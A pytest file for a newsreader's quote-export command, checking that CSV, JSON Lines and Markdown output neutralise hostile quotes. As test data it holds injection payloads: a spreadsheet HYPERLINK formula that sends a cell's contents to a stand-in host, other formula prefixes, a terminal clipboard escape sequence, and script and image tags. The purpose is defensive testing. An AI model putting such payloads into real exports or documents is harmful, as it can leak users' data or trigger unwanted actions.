"""Export: quote rows as CSV / JSON Lines / Markdown, inert whatever the quote
says; `newsreader export` on the seed article and on a folder."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import GOLD_DIR
from tui.analysis.export import (
    COLUMNS,
    neutralise,
    quote_citation,
    quote_rows,
    render,
    sentence_around,
)
from tui.analysis.model import Actor, Analysis, Mention, ModelInfo, Quote
from tui.cli import main

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "[link=https://example.invalid]click[/link] [@click=app.quit]x[/] ![img](http://e.invalid/a.png) <script>x</script> # head",
]


def hostile_analysis() -> Analysis:
    parts, quotes, pos = [], [], 0
    head = "Jane Doe speaks\n\n"
    text = head
    for i, q in enumerate(HOSTILE):
        sentence = f"Jane Doe said “{q}” on day {i}.\n\n"
        start = len(text) + sentence.index("“") + 1
        quotes.append(Quote(start, start + len(q), q, "direct", "a1", "said"))
        text += sentence
    del parts, pos
    mentions = tuple(Mention(i, i + 8, "Jane Doe") for i in _all(text, "Jane Doe"))
    jane = Actor("a1", "=Jane Doe", "PERSON", 0.9, ("Jane Doe",), mentions)
    return Analysis(source="hostile.txt", title="@Jane Doe speaks", text=text, model=ModelInfo("m", "1"),
                    actors=(jane,), quotes=tuple(quotes))


def _all(text: str, needle: str) -> list[int]:
    out, i = [], text.find(needle)
    while i >= 0:
        out.append(i)
        i = text.find(needle, i + 1)
    return out


def test_csv_cells_that_look_like_formulas_are_prefixed():
    analysis = hostile_analysis()
    data = render("csv", quote_rows(analysis, "2024-01-02"))
    rows = list(csv.reader(io.StringIO(data)))
    assert rows[0] == list(COLUMNS)
    for row, original in zip(rows[1:], HOSTILE, strict=True):
        cells = dict(zip(COLUMNS, row, strict=True))
        assert not cells["quote"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cells["quote"] == "'" + " ".join(original.split()) or cells["quote"] == " ".join(original.split())
        assert cells["speaker"] == "'=Jane Doe" and cells["title"] == "'@Jane Doe speaks"
    assert neutralise("plain") == "plain" and neutralise(3) == 3 and neutralise("-x") == "'-x"


def test_csv_is_read_by_pandas_with_the_bom(tmp_path):
    pandas = pytest.importorskip("pandas")
    path = tmp_path / "out.csv"
    path.write_bytes(render("csv", quote_rows(hostile_analysis())).encode("utf-8-sig"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    frame = pandas.read_csv(path)
    assert list(frame.columns) == list(COLUMNS)
    assert len(frame) == len(HOSTILE)


def test_markdown_escapes_links_tags_and_headings():
    md = render("md", quote_rows(hostile_analysis()))
    assert "<script>" not in md and "](" not in md.replace("\\](", "")
    assert "\\[link=https://example.invalid\\]" in md
    assert "\\<script\\>" in md
    assert "## \\=Jane Doe" not in md and "## =Jane Doe (6)" in md
    for line in md.splitlines():
        if line.startswith("- "):
            assert "\n" not in line


def test_jsonl_keeps_the_exact_text_and_offsets():
    analysis = hostile_analysis()
    lines = render("jsonl", quote_rows(analysis)).splitlines()
    assert len(lines) == len(HOSTILE)
    for line, quote in zip(lines, analysis.quotes, strict=True):
        obj = json.loads(line)
        assert analysis.text[obj["start"] : obj["end"]] == quote.text
        assert set(COLUMNS) <= set(obj)


def test_citation_and_sentence():
    analysis = hostile_analysis()
    q = analysis.quotes[1]
    assert quote_citation(analysis, q) == "“+1+2” — =Jane Doe, @Jane Doe speaks"
    text = "First one. Jane Doe said yes. Then more."
    start = text.index("Jane")
    assert sentence_around(text, start, start + 8) == "Jane Doe said yes."


def test_export_of_the_seed_lists_every_quote_with_its_speaker(tmp_path, capfd):
    from tui.analysis.loading import load_article
    from tui.analysis.service import Analyzer

    seed = GOLD_DIR / "000_seed.txt"
    out = tmp_path / "seed.csv"
    assert main(["export", str(seed), "--format", "csv", "-o", str(out)]) == 0
    analysis = Analyzer().cached(load_article(seed))  # what the Quotes tab shows
    assert analysis is not None and analysis.quotes
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert len(rows) == len(analysis.quotes)
    for row, quote in zip(rows, analysis.quotes, strict=True):
        speaker = analysis.actor_by_id[quote.speaker].name if quote.speaker else ""
        assert row["speaker"] == speaker
        assert row["quote"].lstrip("'") == " ".join(quote.text.split())
        assert row["kind"] == quote.kind
        said = getattr(quote, "speaker_mention", None)
        assert row["speaker_mention"].lstrip("'") == (" ".join(said.text.split()) if said else "")
        assert row["title"] == analysis.title
    assert sum(1 for r in rows if r["speaker"]) >= len(rows) // 2


def test_export_to_stdout_markdown_and_errors(tmp_path, capfd):
    folder = tmp_path / "news"
    folder.mkdir()
    (folder / "a.txt").write_text("Jane Doe wins\n\n“We did it,” Jane Doe said on Monday.\n", encoding="utf-8")
    (folder / "b.txt").write_text("John Roe loses\n\n“It is over,” John Roe said.\n", encoding="utf-8")
    assert main(["export", str(folder), "--format", "md"]) == 0
    out = capfd.readouterr().out
    assert out.startswith("# Who said what") and "## Jane Doe (1)" in out and "## John Roe (1)" in out
    assert main(["export", str(tmp_path / "missing.txt")]) == 1
    err = capfd.readouterr().err
    assert err.startswith("newsreader: ") and err.count("\n") == 1
    assert main(["export", str(folder), "--format", "xml"]) == 2


def test_export_is_never_a_path_error_for_an_unwritable_output(tmp_path, capfd):
    article = tmp_path / "a.txt"
    article.write_text("Jane Doe wins\n\n“We did it,” Jane Doe said.\n", encoding="utf-8")
    assert main(["export", str(article), "-o", str(tmp_path / "no" / "such" / "dir" / "x.csv")]) == 1
    err = capfd.readouterr().err
    assert err.startswith("newsreader: ") and "cannot write" in err
    assert Path(article).exists()


def test_export_a_feeds_stored_articles(tmp_path, capfd):
    from tui.library.feeds import FeedItem, ParsedFeed
    from tui.library.store import Store, StoredArticle

    url = "https://news.example.invalid/story-1"
    with Store.open() as store:
        feed, _ = store.add_feed("https://news.example.invalid/rss.xml")
        store.record_refresh(feed.id, ParsedFeed("The Example Gazette", None, (
            FeedItem("g1", url, "Jane Doe wins", "2024-05-01T08:00:00Z"),)))
        store.save_article(StoredArticle(url=url, title="Jane Doe wins",
                                         text="Jane Doe wins\n\n“We did it,” Jane Doe said on Monday.",
                                         date="2024-05-01", site="Example Gazette", fetched_at=1.0))
    for key in ("feed:The Example Gazette", "feed:https://news.example.invalid/rss.xml", "feed:1", "feed:all"):
        assert main(["export", key, "--format", "jsonl"]) == 0, key
        rows = [json.loads(line) for line in capfd.readouterr().out.splitlines()]
        assert [(r["speaker"], r["source"], r["date"]) for r in rows] == [("Jane Doe", url, "2024-05-01")]
    assert main(["export", "feed:No Such Feed"]) == 1
    assert "no such feed" in capfd.readouterr().err


def test_a_hostile_article_exports_inert(tmp_path, capfd):
    """Formulas, markup and escape sequences in a real article's quotes and names."""
    article = tmp_path / "hostile.txt"
    article.write_text(
        "Jane Doe speaks\n\n"
        "“=HYPERLINK(\"http://example.invalid/\",\"click\")” Jane Doe said on Monday.\n\n"
        "“[link=https://example.invalid]x[/link] <img src=x> \x1b]52;c;ZXZpbA==\x07 @SUM(A1)” John Roe said.\n",
        encoding="utf-8")
    assert main(["export", str(article), "--format", "csv"]) == 0
    out = capfd.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff"))))
    quotes = [r["quote"] for r in rows]
    assert any(q.startswith("'=HYPERLINK(") for q in quotes)
    assert all(not q.startswith(("=", "+", "-", "@")) for r in rows for q in r.values())
    assert "\x1b" not in out and "\x07" not in out
    assert main(["export", str(article), "--format", "md"]) == 0
    md = capfd.readouterr().out
    assert "\\<img" in md and "<img" not in md.replace("\\<", "") and "\\[link=" in md and "\x1b" not in md
